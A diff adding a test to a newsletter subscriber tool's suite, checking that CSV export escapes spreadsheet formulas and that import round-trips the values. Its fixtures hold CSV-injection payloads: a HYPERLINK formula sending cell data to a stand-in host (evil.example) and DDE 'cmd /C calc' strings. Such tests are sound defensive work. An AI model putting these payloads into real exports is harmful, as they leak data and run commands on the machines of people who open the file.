@@ -118,6 +118,40 @@ describe('digest subscribers', () => {
     expect(rows.find((r) => r.email === 'daily@example.com')!.cadence).toBe('daily');
   });
 
+  it('neutralises formulas in every user-supplied cell of the export, and import gives the same values back', async () => {
+    const names = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1-2', '-2+3', "'quoted", "'=already", 'Plain Ann'];
+    const ctxSubs = stack.ctx.subscribers;
+    for (const [i, name] of names.entries()) {
+      await ctxSubs.create({
+        email: i === 0 ? '=1+1@example.com' : `n${i}@example.com`, name, status: 'confirmed', topics: ['markets'], timezone: 'UTC', sendHour: 7, weekdaysOnly: false,
+        consent: { at: new Date().toISOString(), ip: '203.0.113.9', userAgent: i === 1 ? '=cmd|\' /C calc\'!A0' : 'Mozilla/5.0', source: 'api' },
+        confirmedAt: new Date().toISOString(), unsubscribedAt: null,
+      });
+    }
+    const exported = await run('export');
+    const rows = parse(exported.out, { columns: true }) as Record<string, string>[];
+    // No cell a spreadsheet would run as a formula.
+    for (const row of rows) for (const cell of Object.values(row)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows[0]!.email).toBe("'=1+1@example.com");
+    expect(rows[1]!.consent_user_agent).toBe("'=cmd|' /C calc'!A0");
+
+    const other = await startStack({}, { workers: false });
+    try {
+      const dir = mkdtempSync(join(tmpdir(), 'md-export-'));
+      writeFileSync(join(dir, 'export.csv'), exported.out);
+      const report = capture();
+      await subscribersCommand(other.ctx, ['import', join(dir, 'export.csv'), '--confirmed'], report);
+      expect(report.errors).toBe('');
+      for (const [i, name] of names.entries()) {
+        const back = await other.ctx.subscribers.findByEmail(i === 0 ? '=1+1@example.com' : `n${i}@example.com`);
+        expect(back?.name).toBe(name);
+      }
+      expect((await other.ctx.subscribers.findByEmail('n1@example.com'))!.consent.userAgent).toBe("=cmd|' /C calc'!A0");
+    } finally {
+      await other.close();
+    }
+  });
+
   it('forgets a person but keeps a suppression entry so an old list cannot re-add them', async () => {
     await run('import', 'test/fixtures/csv/mixed.csv', '--confirmed');
     const res = await run('forget', 'GOOD@example.com');
